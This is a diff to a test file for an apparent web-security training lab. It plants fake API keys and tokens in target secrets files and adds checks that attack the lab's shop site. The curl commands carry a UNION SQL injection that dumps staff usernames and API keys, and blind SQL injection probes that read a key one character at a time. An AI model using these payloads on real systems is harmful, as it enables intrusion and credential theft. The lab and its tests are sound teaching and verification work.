@@ -60,6 +60,19 @@ async function webTargetsLab(): Promise<LabSpec> {
     files: [
       { path: '/srv/imds', directory: true, owner: 'imds', mode: '0700' },
       ...(await targetFiles()),
+      // What a lab gives its targets, each learner's own (weblab.lab_secrets); the shop's admin key is left to chance.
+      {
+        path: '/srv/targets/shop/secrets.env',
+        content: 'OPS_API_KEY=sk_live_9b27e4d0c8a1f356\nMARKETING_API_KEY=sk_live_e05a3c92b71d4f80\n',
+        owner: 'www-data',
+        mode: '0600',
+      },
+      {
+        path: '/srv/targets/support/secrets.env',
+        content: 'SIGNING_KEY=11011d4fd94db2e7dfa6f052\nDEPLOY_TOKEN=dpl_Hq4vN8xT2mLw7Rc9\n',
+        owner: 'www-data',
+        mode: '0600',
+      },
       {
         path: '/home/student/wordlist.txt',
         content: await readFile(path.join(targetsDir, 'invoices/wordlist.txt'), 'utf8'),
@@ -96,6 +109,8 @@ describe('the web targets, attacked from the learner shell as the lessons teach'
       `curl -s -G --data-urlencode "q=zzz' UNION SELECT username, api_key FROM staff-- -" ${shop}/search`,
     );
     expect(union).toContain('<li>ops (sk_live_9b27e4d0c8a1f356)</li>');
+    expect(union).toContain('<li>marketing (sk_live_e05a3c92b71d4f80)</li>');
+    expect(union).toMatch(/<li>admin \(sk_live_[0-9a-f]{16}\)<\/li>/);
     const blind = (condition: string) => run(`curl -s -G --data-urlencode "id=1 AND ${condition}" ${shop}/stock`);
     expect(await blind(`substr((SELECT api_key FROM staff WHERE username='ops'), 9, 1) = '9'`)).toBe('in stock\n');
     expect(await blind(`substr((SELECT api_key FROM staff WHERE username='ops'), 9, 1) = '8'`)).toBe('not available\n');
